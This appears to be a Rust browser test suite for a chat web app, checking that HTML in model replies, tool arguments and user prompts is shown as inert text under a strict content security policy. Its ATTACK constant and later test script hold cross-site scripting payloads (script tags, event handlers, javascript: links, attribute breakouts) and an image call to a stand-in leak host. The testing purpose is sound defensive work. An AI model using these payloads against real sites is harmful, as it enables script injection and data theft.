//! Text of a model, of a tool or of a file does nothing but stand there.

use claudette::testing::MockResponse;
use serde_json::json;

use crate::app::{App, text_and_calls};
use crate::browser::Browser;

const ATTACK: &str = "<script>window.hacked = 1</script>\n\n<img src=x onerror=\"window.hacked = 2\">\n\n\
    [click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>)\n\n\
    ![leak](https://leak.invalid/?secret) <svg onload=window.hacked=5>\n\n\
    ```\"><script>window.hacked = 6</script>\ncode</code></pre><script>window.hacked = 7</script>\n```\n\n\
    | <img src=x onerror=window.hacked=8> |\n|---|\n| <iframe srcdoc=\"<script>parent.hacked=9</script>\"> |\n\n\
    [safe\" onclick=\"window.hacked=10](https://example.com/\"onmouseover=\"window.hacked=11)";

#[tokio::test]
async fn html_of_a_model_is_text() {
    let Some(browser) = Browser::start().await else { return };
    let app = App::start().await;
    app.respond(text_and_calls(ATTACK, "weather", [json!({"city": ATTACK})]).thinking(ATTACK))
        .respond(MockResponse::text(ATTACK));
    browser.goto(&app.url).await;
    browser.eval("document.addEventListener('securitypolicyviolation', () => { window.violated = true; })").await;
    browser.prompt("<script>window.hacked = 12</script><img src=x onerror=window.hacked=13>").await;
    browser.see(".usage").await;
    browser.eval("document.querySelectorAll('details').forEach((each) => { each.open = true; })").await;
    browser
        .eval(
            "document.querySelectorAll('.prose a').forEach((each) => each.dispatchEvent(new MouseEvent('mouseover')))",
        )
        .await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(browser.text("window.hacked").await, "undefined");
    assert_eq!(browser.text("window.violated").await, "undefined", "the page does not even try");
    let made =
        "document.querySelectorAll('#log :is(script, img, iframe, object, embed, style, svg:not(.icon))').length";
    assert_eq!(browser.text(made).await, "0");
    let handlers = "[...document.querySelectorAll('#log *')].filter((each) => [...each.attributes].some(({name}) => name.startsWith('on'))).length";
    assert_eq!(browser.text(handlers).await, "0");
    let links = "[...document.querySelectorAll('#log a')].every((each) => /^https?:/.test(each.protocol) && each.rel.includes('noopener'))";
    assert_eq!(browser.text(links).await, "true");
    // Nothing was loaded from elsewhere.
    let loaded = browser.text("performance.getEntriesByType('resource').map((each) => each.name).filter((name) => !name.startsWith(location.origin)).join()").await;
    assert!(!loaded.contains("leak"), "{loaded}");
    browser.close().await;
}

#[tokio::test]
async fn hidden_characters_in_arguments_are_shown() {
    let Some(browser) = Browser::start().await else { return };
    let app = App::start().await;
    let city = "Os\u{202e}lo\u{200b}\u{e0041} 👩\u{200d}🚀";
    app.respond(MockResponse::tool_use("weather", json!({"city": city}))).respond(MockResponse::text("Rain."));
    browser.goto(&app.url).await;
    browser.prompt("How is the weather?").await;
    browser.see(".usage").await;
    let shown = "Os\\u202elo\\u200b\\udb40\\udc41 👩\u{200d}🚀";
    assert_eq!(browser.text("document.querySelector('.tool dd').textContent").await, shown);
    assert_eq!(browser.text("document.querySelector('.tool .gist').textContent").await, shown);
    browser.close().await;
}

#[tokio::test]
async fn the_policy_of_the_page_is_strict() {
    let Some(browser) = Browser::start().await else { return };
    let app = App::start().await;
    browser.goto(&app.url).await;
    let policy = browser.eval("return fetch('/').then((page) => page.headers.get('content-security-policy'))").await;
    let policy = policy.as_str().unwrap();
    for part in [
        "default-src 'none'",
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "require-trusted-types-for 'script'",
    ] {
        assert!(policy.contains(part), "{policy}");
    }
    assert!(!policy.contains("unsafe"), "{policy}");
    let page = browser.eval("return fetch('/').then((page) => page.text())").await;
    let page = page.as_str().unwrap();
    assert!(!page.contains("{nonce}") && !page.contains("innerHTML") && !page.contains("style=\""));
    assert!(!page.replace("http://www.w3.org/2000/svg", "").contains("http://"), "an address of another server");

    // And it works: a script, a handler or a string of HTML that got in would not run.
    let script = "const tried = [];
        const script = document.createElement('script');
        try { script.textContent = 'window.hacked = 1'; } catch { tried.push('script'); }
        document.body.append(script);
        try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 2\">'); } catch { tried.push('html'); }
        const frame = document.createElement('img');
        try { frame.setAttribute('onerror', 'window.hacked = 3'); } catch { tried.push('handler'); }
        frame.src = 'https://leak.invalid/';
        return tried.join() + ' ' + window.hacked;";
    let tried = browser.eval(script).await;
    assert!(tried.as_str().unwrap().contains("html"), "{tried}");
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert_eq!(browser.text("window.hacked").await, "undefined");
    browser.close().await;
}
